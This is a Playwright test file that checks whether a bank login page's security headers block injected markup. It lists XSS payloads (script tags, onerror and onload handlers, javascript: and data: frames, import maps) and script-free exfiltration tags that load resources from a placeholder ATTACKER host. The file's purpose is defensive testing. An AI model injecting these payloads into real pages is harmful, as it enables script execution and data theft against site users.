import type { Page } from 'playwright-core';
import { type Attacker, attackerForThisFile } from '../support/browser/attacker';
import { newVisit } from '../support/browser/browser';
import { siteForThisFile } from '../support/site/site';

const site = siteForThisFile();
const attacker = attackerForThisFile();

const run = 'globalThis.mark=1';
const runInParent = 'parent.mark=1';

/** What an attacker could write into a page if the bank forgot to escape something. */
const running: Record<string, string> = {
  'an inline script': `<script>${run}</script>`,
  'a broken image': `<img src="/nothing" onerror="${run}">`,
  'an SVG': `<svg onload="${run}"></svg>`,
  'a focused field': `<input autofocus onfocus="${run}">`,
  'a script of another site': '<script src="ATTACKER/run.js"></script>',
  'a module of another site': '<script type="module" src="ATTACKER/run.js"></script>',
  'a data script': `<script src="data:text/javascript,${run}"></script>`,
  'a frame with a document': `<iframe srcdoc="<script>${runInParent}</script>"></iframe>`,
  'a frame with a script address': `<iframe src="javascript:${runInParent}"></iframe>`,
  'a script in an import map': `<script type="importmap">{"imports":{"evil":"data:text/javascript,${run}"}}</script><script type="module">import "evil"</script>`,
};

/** Sends data away without a script. */
const sending: Record<string, string> = {
  'an image': '<img src="ATTACKER/image">',
  'a style sheet': '<link rel="stylesheet" href="ATTACKER/style.css">',
  'an imported style': '<style>@import "ATTACKER/import.css";</style>',
  'a background': '<div style="background: url(ATTACKER/background); height: 9px"></div>',
  'a font':
    '<style>@font-face { font-family: f; src: url(ATTACKER/font) } p.f { font-family: f }</style><p class="f">f</p>',
  'a video': '<video src="ATTACKER/video" autoplay></video>',
  'a frame': '<iframe src="ATTACKER/frame"></iframe>',
  'an object': '<object data="ATTACKER/object"></object>',
  'an embedded document': '<embed src="ATTACKER/embed">',
  'a prefetched page': '<link rel="prefetch" href="ATTACKER/prefetch">',
  'a preloaded script': '<link rel="preload" as="script" href="ATTACKER/preload.js">',
  'an image of an SVG': '<svg><image href="ATTACKER/svg" width="9" height="9"></image></svg>',
  'a base address': '<base href="ATTACKER/"><img src="relative">',
};

/** Puts the markup behind the start of the body, with or without the bank's headers. */
async function inject(page: Page, markup: string, headersOf: 'bank' | 'none'): Promise<void> {
  await page.route(`${site().address}/login`, async (route) => {
    const response = await route.fetch();
    const html = await response.text();
    const headers =
      headersOf === 'bank' ? response.headers() : { 'content-type': 'text/html; charset=utf-8' };
    await route.fulfill({ status: 200, headers, body: html.replace(/<body[^>]*>/, `$&${markup}`) });
  });
}

interface Outcome {
  hasRun: boolean;
  received: string[];
  isBlocked: boolean;
}

async function visit(markup: string, { address, received }: Attacker, headersOf: 'bank' | 'none') {
  const { page, context } = await newVisit();
  // Chromium takes a changed page for one from the internet, which may not reach this machine by default.
  await context.grantPermissions(['local-network-access']);
  const violations: string[] = [];
  page.on('console', (said) => /violates|Integrity-Policy/.test(said.text()) && violations.push(said.text()));
  await inject(page, markup.replaceAll('ATTACKER', address), headersOf);
  await page.goto(`${site().address}/login`, { waitUntil: 'load' });
  const hasRun = await page.evaluate(() => 'mark' in globalThis);
  const outcome: Outcome = { hasRun, received: received.splice(0), isBlocked: violations.length > 0 };
  await context.close();
  return outcome;
}

const every = Object.entries({ ...running, ...sending });

test('blocks markup that runs scripts or sends data away', async () => {
  const outcomes: [string, Outcome][] = [];
  for (const [name, markup] of every) outcomes.push([name, await visit(markup, attacker(), 'bank')]);
  expect(outcomes).toEqual(every.map(([name]) => [name, { hasRun: false, received: [], isBlocked: true }]));
  console.log(`measured: attacks, injected markup: ${every.length} attempts, ${every.length} blocked`);
});

test('the same markup succeeds without the bank’s headers', async () => {
  const harmless: string[] = [];
  for (const [name, markup] of every) {
    const { hasRun, received } = await visit(markup, attacker(), 'none');
    if (!hasRun && received.length === 0) harmless.push(name);
  }
  expect(harmless).toEqual([]);
});
